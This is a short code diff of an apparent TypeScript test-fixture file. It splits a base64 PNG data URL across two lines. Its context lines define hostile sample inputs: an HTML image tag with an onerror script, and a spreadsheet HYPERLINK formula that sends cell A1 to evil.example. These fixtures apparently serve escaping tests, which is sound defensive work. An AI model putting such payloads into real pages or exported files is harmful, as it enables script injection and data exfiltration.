@@ -7,7 +7,8 @@ export const SITE = 'https://www.example-county.gov.cn/';
 export const HOSTILE_TITLE = '<img src=x onerror=alert(1)>';
 /** A 4×4 red PNG as a data URL: an inline evidence screenshot. */
 export const RED_DOT_PNG =
-  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAQAAAAECAIAAAAmkwkpAAAAEElEQVR4nGO4IycHRwzEcQDTIxGBFNCZswAAAABJRU5ErkJggg==';
+  'data:image/png;base64,' +
+  'iVBORw0KGgoAAAANSUhEUgAAAAQAAAAECAIAAAAmkwkpAAAAEElEQVR4nGO4IycHRwzEcQDTIxGBFNCZswAAAABJRU5ErkJggg==';
 export const HOSTILE_TEXT = '=HYPERLINK("http://evil.example/?x="&A1,"点我")';
 
 type Draft = Omit<Finding, 'id' | 'data' | 'indicators' | 'fix'> &
